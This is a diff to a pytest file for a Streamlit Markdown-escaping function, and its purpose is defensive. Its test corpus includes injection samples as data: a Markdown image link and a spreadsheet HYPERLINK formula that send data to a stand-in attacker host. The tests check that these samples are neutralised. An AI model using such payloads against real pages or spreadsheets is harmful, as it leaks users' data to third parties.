@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from components.text import JOINER, clip, code, literal, plain, task_href, unescape
+from components.text import SPLIT, clip, code, literal, plain, task_href, unescape
 
 LONG_WORD = "W" * 10_000
 
@@ -23,8 +23,9 @@ CORPUS = [
     LONG_WORD,
 ]
 
-J = JOINER
-# Exactly what each entry becomes: Markdown specials escaped, a joiner where a pattern is found after parsing.
+J = SPLIT
+# Exactly what each entry becomes: Markdown specials escaped, an empty span where a pattern is found after
+# parsing (it adds no character: the page's text is the text typed).
 EXPECTED = {
     "x ![t](http://attacker.example/p.png)": rf"x !\[t\](http\:{J}//attacker.example/p.png)",
     '=HYPERLINK("http://attacker.example/?"&A1,"details")':
@@ -41,12 +42,16 @@ EXPECTED = {
     ":smile: :streamlit: :+1: :100:": rf"\:{J}smile: \:{J}streamlit: \:{J}+1: \:{J}100:",
     "www.attacker.example mail@attacker.example": f"www{J}.attacker.example mail@{J}attacker.example",
     "<http://attacker.example>": rf"\<http\:{J}//attacker.example>",
-    "- item\n1. one\n> quote\n---": "\\- item\\\n1\\. one\\\n\\> quote\\\n\\---",
+    "- item\n1. one\n> quote\n---": f"\\- item\\\n1\\. one\\\n\\> quote\\\n\\-{J}-{J}-",
     "+ a\n2) b\n===": "\\+ a\\\n2\\) b\\\n\\===",
     "    indented code": "&#32;&#32;&#32;&#32;indented code",
     "`code` ~~s~~ **b** _i_": r"\`code\` \~\~s\~\~ \*\*b\*\* \_i\_",
     "<b>&amp;</b> &#36; Q&A": r"\<b>\&amp;\</b> \&#36; Q&A",
-    "| a | b |\n|---|---|": "\\| a \\| b \\|\\\n\\|---\\|---\\|",
+    "| a | b |\n|---|---|": f"\\| a \\| b \\|\\\n\\|-{J}-{J}-\\|-{J}-{J}-\\|",
+    # Streamlit shows these between spaces as arrows and dashes (→ ← ↔ — ≥ ≤ ≈): split, they stay as typed.
+    "a -> b <- c <-> d -- e >= f <= g ~= h":
+        rf"a -{J}> b \<{J}- c \<{J}-{J}> d -{J}- e >{J}= f \<{J}= g \~{J}= h",
+    "-> x": rf"\-{J}> x",
     "a\\\nb": "a\\\\\\\nb",
     "[^1]: note": r"\[^1\]: note",
     # Ordinary sentences stay as typed: ", . ! ( ) ?" and ": " start nothing.
@@ -69,9 +74,11 @@ def test_every_entry_is_escaped_exactly_and_reads_back(text):
 def test_nothing_is_left_for_markdown_to_obey(text):
     """No construct survives: every '[', '$', '<', '`', '*', '_', '~', '|' is escaped, and every ':name' is broken."""
     escaped = literal(text)
-    unescaped_specials = re.findall(r"(?<!\\)(?:\\\\)*([\[\]$<`*_~|])", escaped)
+    people_s = escaped.replace(SPLIT, "")  # the empty span is the escaping's own markup, the rest is theirs
+    unescaped_specials = re.findall(r"(?<!\\)(?:\\\\)*([\[\]$<`*_~|])", people_s)
     assert unescaped_specials == []
-    assert not re.search(r"(?<!\\):[A-Za-z_/+-]", escaped)  # no directive, icon, shortcode or URL scheme
+    # No directive, icon, shortcode or URL scheme of the person's (the empty span is the escaping's own).
+    assert not re.search(r"(?<!\\):[A-Za-z_/+-]", people_s)
     assert "](" not in escaped.replace(r"\](", "")
     assert ":material/" not in escaped  # Streamlit rewrites that text before it parses anything
     assert not re.search(r"(?m)^(?:[ \t]{0,3})(?:[#>+=-]|\d+[.)])", escaped)  # no block starts a line
@@ -87,7 +94,7 @@ def test_line_breaks_become_hard_breaks_and_trailing_ones_go():
 
 
 def test_a_persons_own_escapes_and_references_read_back():
-    for text in [f"{JOINER} &#32; \\\\ \\:", "\\", "a\\", "&#8288;x", "  two\n\tthree", "\\\n"]:
+    for text in ["\u2060 &#32; \\\\ \\:", "\\", "a\\", "&#8288;x", "  two\n\tthree", "\\\n", SPLIT, f"a{SPLIT}b"]:
         assert unescape(literal(text)) == text.rstrip("\n")
 
 
